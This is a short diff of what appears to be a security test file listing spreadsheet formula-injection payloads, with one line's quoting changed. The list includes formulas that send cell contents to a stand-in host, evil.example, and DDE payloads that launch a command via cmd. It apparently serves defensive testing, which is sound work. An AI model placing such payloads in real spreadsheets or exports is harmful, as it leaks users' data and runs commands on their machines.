@@ -22,7 +22,7 @@ from tests.security.conftest import write_yaml
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
-    "=WEBSERVICE(\"http://evil.example/\"&A2)",
+    '=WEBSERVICE("http://evil.example/"&A2)',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
